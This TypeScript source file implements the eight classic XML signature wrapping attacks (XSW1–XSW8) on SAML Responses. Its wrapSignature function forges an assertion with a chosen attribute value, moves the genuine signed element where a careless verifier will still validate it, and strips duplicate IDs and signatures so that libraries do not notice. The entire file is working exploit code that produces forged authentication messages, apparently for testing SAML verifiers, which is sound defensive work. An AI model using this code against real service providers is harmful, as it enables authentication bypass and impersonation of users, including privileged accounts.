import { newId } from './response.js';
import { NAMESPACE } from './saml/names.js';
import { attributeOf, childOf, readXml, rewriteXml } from './xml/read.js';

/** The parts of a signed Response that the attacks move about. */
interface Parts {
  readonly root: Element;
  readonly assertion: Element;
  /** Makes somebody else of the person, under a new ID. */
  readonly forge: (element: Element) => void;
}

interface Wrapping {
  /** What must have been signed: the other signature would not survive. */
  readonly sign: 'both' | 'assertion';
  readonly move: (parts: Parts) => void;
}

/**
 * The eight classic forms of signature wrapping (Somorovsky and others, "On Breaking SAML", 2012, by their usual numbers). In each the
 * genuine signature stays valid over the genuine element, while a careless reader finds the forged one.
 */
export const WRAPPINGS = {
  /** A forged Response holds the genuine one inside its Signature. */
  XSW1: {
    sign: 'both',
    move: ({ root, forge }) => {
      const genuine = copyWithoutSignature(root);
      forge(root);
      signatureOf(root).appendChild(genuine);
    },
  },
  /** A forged Response holds the genuine one before its Signature. */
  XSW2: {
    sign: 'both',
    move: ({ root, forge }) => {
      const genuine = copyWithoutSignature(root);
      forge(root);
      root.insertBefore(genuine, signatureOf(root));
    },
  },
  /** A forged Assertion stands before the genuine one. */
  XSW3: {
    sign: 'assertion',
    move: ({ root, assertion, forge }) => {
      const forged = copyWithoutSignature(assertion);
      forge(forged);
      root.insertBefore(forged, assertion);
    },
  },
  /** A forged Assertion holds the genuine one. */
  XSW4: {
    sign: 'assertion',
    move: ({ root, assertion, forge }) => {
      const forged = copyWithoutSignature(assertion);
      forge(forged);
      root.replaceChild(forged, assertion);
      forged.appendChild(assertion);
    },
  },
  /** A forged Assertion has the Signature of the genuine one, which stands at the end. */
  XSW5: {
    sign: 'assertion',
    move: ({ root, assertion, forge }) => {
      const genuine = copyWithoutSignature(assertion);
      forge(assertion);
      root.appendChild(genuine);
    },
  },
  /** A forged Assertion has the Signature of the genuine one, which stands in that Signature. */
  XSW6: {
    sign: 'assertion',
    move: ({ assertion, forge }) => {
      const genuine = copyWithoutSignature(assertion);
      forge(assertion);
      signatureOf(assertion).appendChild(genuine);
    },
  },
  /** A forged Assertion stands in Extensions, which may hold anything. */
  XSW7: {
    sign: 'assertion',
    move: ({ root, assertion, forge }) => {
      const forged = copyWithoutSignature(assertion);
      forge(forged);
      const extensions = root.ownerDocument.createElementNS(NAMESPACE.protocol, 'samlp:Extensions');
      extensions.appendChild(forged);
      root.insertBefore(extensions, assertion);
    },
  },
  /** A forged Assertion has the Signature of the genuine one, which stands in an Object of that Signature. */
  XSW8: {
    sign: 'assertion',
    move: ({ root, assertion, forge }) => {
      const genuine = copyWithoutSignature(assertion);
      forge(assertion);
      const object = root.ownerDocument.createElementNS(NAMESPACE.signature, 'ds:Object');
      object.appendChild(genuine);
      signatureOf(assertion).appendChild(object);
    },
  },
} as const satisfies Readonly<Record<string, Wrapping>>;

export type WrappingName = keyof typeof WRAPPINGS;

/** Wraps the signature of a Response that was signed as the form wants it. */
export function wrapSignature(xml: string, name: WrappingName, forged: { readonly attribute: string; readonly value: string }): string {
  const root = readXml(xml);
  const assertion = childOf(root, NAMESPACE.assertion, 'Assertion');
  if (!assertion) throw new Error('There is no Assertion to wrap.');
  const forge = (element: Element): void => {
    element.setAttribute('ID', newId());
    // In a forged Response neither the Assertion's ID nor its Signature may stand twice: any library would notice.
    const inner = childOf(element, NAMESPACE.assertion, 'Assertion');
    inner?.setAttribute('ID', newId());
    inner?.removeChild(signatureOf(inner));
    for (const attribute of Array.from(element.getElementsByTagNameNS(NAMESPACE.assertion, 'Attribute'))) {
      const value = childOf(attribute, NAMESPACE.assertion, 'AttributeValue');
      if (value && attributeOf(attribute, 'Name') === forged.attribute) value.textContent = forged.value;
    }
  };
  WRAPPINGS[name].move({ root, assertion, forge });
  return rewriteXml(root);
}

function signatureOf(element: Element): Element {
  const signature = childOf(element, NAMESPACE.signature, 'Signature');
  if (!signature) throw new Error('There is no Signature to wrap.');
  return signature;
}

function copyWithoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}
